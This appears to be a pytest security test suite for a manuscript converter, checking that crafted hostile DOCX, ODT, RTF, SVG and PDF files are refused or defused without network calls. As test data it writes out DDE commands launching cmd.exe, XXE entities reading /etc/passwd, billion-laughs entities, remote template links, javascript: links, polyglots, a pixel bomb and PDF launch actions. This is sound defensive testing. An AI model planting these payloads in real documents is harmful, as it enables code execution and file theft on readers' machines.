"""Files made to do harm: each is refused in words or read without its harm; nothing goes out."""

import io
import subprocess
import sys
import time
import zipfile
import zlib

import pikepdf
import pypandoc
import pytest
from docx import Document
from docx.opc.constants import RELATIONSHIP_TYPE
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls
from PIL import Image

from submissions.manuscripts.convert import convert
from submissions.manuscripts.refusals import Refusal
from submissions.manuscripts.sentences import words_of
from submissions.manuscripts.sniff import Kind, kind_of
from submissions.manuscripts.tree import line_of, parse

from .conftest import convert_bytes
from .hostile import Listener, names_in
from .parts import RELATIONS, make_docx, make_zip, save

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


@pytest.fixture
def listener():
    place = Listener()
    yield place
    place.close()


@pytest.fixture
def guarded(tmp_path, listener):
    """Read a file beside an empty folder; after it nobody was called and only its folder changed."""
    job, outside = tmp_path / "world" / "job", tmp_path / "world"
    job.mkdir(parents=True)
    (outside / "secret.txt").write_text("SECRET-WORDS")

    def read(data: bytes, name: str):
        kind = kind_of(data, name)
        try:
            return convert(data, kind, folder=job)
        finally:
            time.sleep(0.2)
            assert listener.calls == 0
            assert {each for each in names_in(outside) if not each.startswith("job")} == {
                "secret.txt"
            }

    return read


def docx(body: str, relations: str = "", more: dict[str, bytes | str] | None = None) -> bytes:
    document = (
        f'<?xml version="1.0"?><w:document xmlns:w="{W}" xmlns:r="{R}" '
        'xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:v="urn:schemas-microsoft-com:vml" '
        'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
        'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
        'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><w:body>'
        f"<w:p><w:r><w:t>Some words.</w:t></w:r></w:p>{body}</w:body></w:document>"
    )
    parts: dict[str, bytes | str] = {"word/document.xml": document}
    if relations:
        parts["word/_rels/document.xml.rels"] = (
            '<?xml version="1.0"?><Relationships '
            'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f"{relations}</Relationships>"
        )
    return make_docx(parts | (more or {}))


def outside(kind: str, target: str) -> str:
    return (
        f'<Relationship Id="rId9" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="External"/>'
    )


def field(instruction: str) -> str:
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">'
        f'{instruction}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r>'
        '<w:t>shown</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


# Word


@pytest.mark.parametrize("kind", ["attachedTemplate", "oleObject", "image", "subDocument", "frame"])
def test_relations_to_the_outside_are_not_followed(kind, guarded, listener):
    picture = (
        "<w:p><w:r><w:drawing><wp:inline><wp:extent cx='9' cy='9'/><a:graphic><a:graphicData uri="
        "'http://schemas.openxmlformats.org/drawingml/2006/picture'><pic:pic><pic:blipFill>"
        "<a:blip r:link='rId9' r:embed='rId9'/></pic:blipFill></pic:pic></a:graphicData></a:graphic>"
        "</wp:inline></w:drawing></w:r></w:p>"
        "<w:p><w:r><w:object><o:OLEObject Type='Link' ProgID='Word' r:id='rId9'/></w:object></w:r></w:p>"
    )
    data = docx(picture, outside(kind, f"http://{listener.address}/x"))

    result = guarded(data, "paper.docx")

    assert "Some words." in line_of(parse(result.tree))
    assert result.media == {}


@pytest.mark.parametrize(
    "instruction",
    [
        'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"',
        'DDE excel "c:\\\\secret.xls" "a1"',
        'INCLUDETEXT "../secret.txt"',
        'INCLUDEPICTURE "http://ADDRESS/x.png" \\d',
        'IMPORT "http://ADDRESS/x.png"',
    ],
)
def test_fields_are_never_run_and_never_shown(instruction, guarded, listener):
    text = instruction.replace("ADDRESS", listener.address)

    result = guarded(docx(field(text)), "paper.docx")

    shown = result.tree.decode()
    assert "Some words." in shown
    assert not any(word in shown for word in ("DDE", "INCLUDE", "IMPORT", "calc", "SECRET"))


def test_simple_fields_are_never_run_and_never_shown(guarded, listener):
    body = (
        f'<w:p><w:fldSimple w:instr="INCLUDETEXT &quot;http://{listener.address}/a&quot;"/></w:p>'
    )

    result = guarded(docx(body), "paper.docx")

    assert "INCLUDETEXT" not in result.tree.decode()


def test_part_kept_in_another_file_is_left_out(guarded, listener):
    html = f"<html><script>alert(1)</script><img src='http://{listener.address}/x'>HIDDEN</html>"
    relation = f'<Relationship Id="rId9" Type="{OFFICE}/aFChunk" Target="chunk.html"/>'

    result = guarded(
        docx('<w:altChunk r:id="rId9"/>', relation, {"word/chunk.html": html}), "paper.docx"
    )

    assert "HIDDEN" not in result.tree.decode()
    assert "outside" in [loss.code for loss in result.losses]


def test_link_that_runs_is_only_words(guarded):
    document = Document()
    paragraph = document.add_paragraph("See ")
    key = document.part.relate_to("javascript:alert(1)", RELATIONSHIP_TYPE.HYPERLINK, True)
    paragraph._p.append(
        parse_xml(
            f'<w:hyperlink {nsdecls("w", "r")} r:id="{key}"><w:r><w:t>this</w:t></w:r></w:hyperlink>'
        )
    )

    result = guarded(save(document), "paper.docx")

    assert "javascript" not in result.tree.decode()
    assert "See this" in line_of(parse(result.tree))


@pytest.mark.parametrize(
    "part",
    [
        "word/document.xml",
        "word/styles.xml",
        "word/comments.xml",
        "docProps/core.xml",
        "_rels/.rels",
    ],
)
@pytest.mark.parametrize(
    "declared",
    [
        '<!ENTITY x SYSTEM "http://ADDRESS/x">',
        '<!ENTITY x SYSTEM "file:///etc/passwd">',
        '<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;"><!ENTITY x "&b;&b;&b;&b;&b;&b;">',
    ],
)
def test_entities_in_any_part_are_refused(part, declared, listener):
    text = f'<?xml version="1.0"?><!DOCTYPE r [{declared.replace("ADDRESS", listener.address)}]><r>&x;</r>'

    assert refusal(make_docx({part: text}), "paper.docx") == "entities"
    assert listener.calls == 0


@pytest.mark.parametrize("encoding", ["utf-16", "utf-32"])
def test_entities_are_found_in_every_encoding(encoding):
    text = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x "y">]><r>&x;</r>'.encode(encoding)

    assert refusal(make_docx({"word/document.xml": text}), "paper.docx") == "entities"


def test_entities_in_an_open_document_are_refused(listener):
    content = f'<?xml version="1.0"?><!DOCTYPE a SYSTEM "http://{listener.address}/a"><a/>'
    odt = {"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": content}

    assert refusal(make_zip(odt, stored=True), "paper.odt") == "entities"
    assert listener.calls == 0


def test_pictures_of_an_open_document_are_not_fetched(guarded, listener, tmp_path):
    written = tmp_path / "paper.odt"
    argv = [pypandoc.get_pandoc_path(), "--from=markdown", f"--output={written}"]
    subprocess.run(argv, input=b"Some words.\n\nPLACE", check=True)
    frames = "".join(
        f'<draw:frame><draw:image xlink:href="{target}"/></draw:frame>'
        for target in (f"http://{listener.address}/x.png", "../../secret.txt", "/etc/passwd")
    )
    out = io.BytesIO()
    with zipfile.ZipFile(written) as old, zipfile.ZipFile(out, "w") as new:
        for entry in old.infolist():
            data = old.read(entry)
            new.writestr(entry, data.replace(b"PLACE", frames.encode()))

    result = guarded(out.getvalue(), "paper.odt")

    assert "Some words." in line_of(parse(result.tree))
    assert result.media == {}
    assert b"SECRET" not in result.tree


def test_deep_nesting_ends_in_time(guarded):
    body = "<w:p>" + "<w:smartTag>" * 40_000 + "<w:r><w:t>x</w:t></w:r>" + "</w:smartTag>" * 40_000
    began = time.monotonic()

    try:
        guarded(docx(body + "</w:p>"), "paper.docx")
    except Refusal as error:
        assert str(words_of(error))
    assert time.monotonic() - began < 75


def png_of(width: int, height: int) -> bytes:
    """A PNG whose header promises that many pixels in a few bytes."""

    def chunk(name: bytes, data: bytes) -> bytes:
        crc = zlib.crc32(name + data)
        return len(data).to_bytes(4, "big") + name + data + crc.to_bytes(4, "big")

    header = width.to_bytes(4, "big") + height.to_bytes(4, "big") + b"\1\0\0\0\0"
    body = zlib.compress(bytes((width // 8 + 1) * min(height, 2_000)))
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", body) + chunk(b"IEND", b"")
    )


def with_picture(data: bytes) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (30, 20), "red").save(out, "PNG")
    document = Document()
    document.add_paragraph("Some words.")
    document.add_picture(io.BytesIO(out.getvalue()))
    result = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(save(document))) as old, zipfile.ZipFile(result, "w") as new:
        for entry in old.infolist():
            is_picture = entry.filename.startswith("word/media/")
            new.writestr(entry, data if is_picture else old.read(entry))
    return result.getvalue()


def test_pixel_bomb_is_left_out(guarded):
    result = guarded(with_picture(png_of(60_000, 60_000)), "paper.docx")

    assert [loss.code for loss in result.losses] == ["picture"]
    assert result.media == {}


SVG = (
    '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "http://ADDRESS/x">]><svg '
    'xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script>'
    '<image href="http://ADDRESS/y"/><text>&x;</text></svg>'
)


def test_hostile_svg_is_left_out(guarded, listener):
    svg = SVG.replace("ADDRESS", listener.address).encode()

    result = guarded(with_picture(svg), "paper.docx")

    assert [loss.code for loss in result.losses] == ["picture"]
    assert b"alert" not in result.tree


# Polyglots and wrong names


def refusal(data: bytes, name: str) -> str:
    with pytest.raises(Refusal) as caught:
        convert_bytes(data, name)
    assert str(words_of(caught.value)).endswith((".", "?"))
    return caught.value.code


def make_pdf(**keys) -> bytes:
    out = io.BytesIO()
    with pikepdf.new() as document:
        document.add_blank_page()
        for key, value in keys.items():
            document.Root[f"/{key}"] = value
        document.save(out)
    return out.getvalue()


def test_file_that_is_two_kinds_at_once_is_taken_for_none_by_its_name():
    both = make_pdf() + make_docx()

    assert kind_of(both, "paper.pdf") == Kind.PDF
    assert refusal(both, "paper.docx") == "other_kind"
    assert refusal(both, "paper.zip") == "other_kind"


@pytest.mark.parametrize(
    ("data", "name", "code"),
    [
        (b"<html><script>alert(1)</script></html>" + make_docx(), "paper.docx", "html"),
        (b"GIF89a/*" + bytes(40) + b"*/=1;alert(1)", "paper.docx", "picture"),
        (b"GIF89a=1;alert(1)//", "paper.docx", "other_kind"),
        (b"MZ" + bytes(60) + make_docx(), "paper.docx", "program"),
        (make_docx({"word/vbaProject.bin": b"x"}), "paper.docx", "macros"),
        (make_docx({"word/vbaProject.bin": b"x"}), "paper.zip", "macros"),
        (make_docx(), "paper.docm", "macros"),
        (make_docx()[:-60], "paper.docx", "damaged"),
        (make_docx()[: len(make_docx()) // 2], "paper.docx", "damaged"),
        (b"%PDF-1.7\n" + bytes(40), "paper.pdf", "unreadable"),
        (b"{\\rtf1 words}", "paper.docx", "other_kind"),
    ],
)
def test_other_disguises_are_refused(data, name, code):
    assert refusal(data, name) == code


def test_web_page_behind_a_word_file_is_not_in_the_text(guarded):
    result = guarded(make_docx() + b"<script>alert(1)</script>", "paper.docx")

    assert b"alert" not in result.tree


def test_size_is_told_before_a_large_file_is_read(tmp_path):
    path = tmp_path / "paper.docx"
    with path.open("wb") as file:
        file.truncate(300 * 1024 * 1024)
    began = time.monotonic()

    with pytest.raises(Refusal) as caught:
        kind_of(path, "paper.docx")

    assert "50 MB" in str(words_of(caught.value))
    assert time.monotonic() - began < 1


# RTF


@pytest.mark.parametrize(
    "group",
    [
        r"{\object\objemb\objautlink{\*\objclass Word}{\*\objdata 01050000020000000b000000}}",
        r'{\field{\*\fldinst INCLUDEPICTURE "http://ADDRESS/x.png" \\d}{\fldrslt shown}}',
        r'{\field{\*\fldinst DDEAUTO cmd "/k calc"}{\fldrslt shown}}',
        r"{\*\template http://ADDRESS/evil.dotm}",
        r'{\field{\*\fldinst HYPERLINK "javascript:alert(1)"}{\fldrslt shown}}',
    ],
)
def test_rtf_is_read_without_its_harm(group, guarded, listener):
    data = ("{\\rtf1 Some words.\\par " + group + "}").replace("ADDRESS", listener.address)

    result = guarded(data.encode(), "paper.rtf")

    shown = result.tree.decode()
    assert "Some words." in shown
    assert not any(word in shown for word in ("INCLUDEPICTURE", "DDEAUTO", "javascript", "0105"))


def test_rtf_that_nests_without_end_ends_in_time(guarded):
    began = time.monotonic()

    try:
        guarded(b"{\\rtf1 words " + b"{" * 200_000 + b"}" * 200_000 + b"}", "paper.rtf")
    except Refusal as error:
        assert str(words_of(error))
    assert time.monotonic() - began < 75


# PDF


def test_pdf_that_acts_is_only_read(guarded, listener):
    address = f"http://{listener.address}/x"
    script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=f"app.launchURL('{address}')")
    launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="/bin/touch", Next=script)

    result = guarded(make_pdf(OpenAction=launch, AA=pikepdf.Dictionary(WC=script)), "paper.pdf")

    assert result.tree is None


def test_pdf_with_pages_in_a_circle_ends(guarded):
    out = io.BytesIO()
    with pikepdf.new() as document:
        document.add_blank_page()
        pages = document.Root.Pages
        pages.Kids.append(pages)
        pages.Count = 2_000_000_000
        document.save(out)
    began = time.monotonic()

    try:
        guarded(out.getvalue(), "paper.pdf")
    except Refusal as error:
        assert str(words_of(error))
    assert time.monotonic() - began < 75


def test_pdf_with_huge_pages_is_read(guarded):
    out = io.BytesIO()
    with pikepdf.new() as document:
        document.add_blank_page()
        document.pages[0].MediaBox = [0, 0, 14_400_000, 14_400_000]
        document.save(out)

    assert guarded(out.getvalue(), "paper.pdf").tree is None


# Titles and names


def test_markup_in_a_title_goes_through_unharmed():
    title = 'H<sub>2</sub>O & "α < β" <script>alert(1)</script>'
    document = Document()
    document.add_heading(title, 0)
    document.add_paragraph("Some words.")

    article = parse(convert_bytes(save(document), "paper.docx").tree)

    assert title in line_of(article).replace("“", '"').replace("”", '"')
    assert article.find(".//script") is None


def test_name_of_255_letters_only_has_to_end_right():
    name = "ұ" * 250 + ".docx"

    assert kind_of(make_docx(), name) == Kind.DOCX


def test_relations_of_the_whole_file_are_not_followed(guarded, listener):
    relation = outside("attachedTemplate", f"http://{listener.address}/t.dotm")
    rels = RELATIONS.replace("</Relationships>", relation + "</Relationships>")

    result = guarded(make_docx({"_rels/.rels": rels}), "paper.docx")

    assert "Some words" in line_of(parse(result.tree))


def test_listener_notices_a_request(listener):
    """The proof that the proof works."""
    code = f"import urllib.request as u; u.urlopen('http://{listener.address}/', timeout=1)"
    subprocess.run([sys.executable, "-c", code], check=False, capture_output=True)

    assert listener.calls == 1
